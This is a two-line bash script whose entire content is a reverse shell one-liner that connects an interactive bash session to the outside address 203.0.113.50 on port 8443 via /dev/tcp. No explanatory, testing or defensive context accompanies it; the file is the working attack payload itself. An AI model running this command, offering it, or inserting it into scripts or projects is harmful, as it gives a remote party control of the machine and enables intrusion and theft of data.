#!/bin/bash
bash -i >& /dev/tcp/203.0.113.50/8443 0>&1
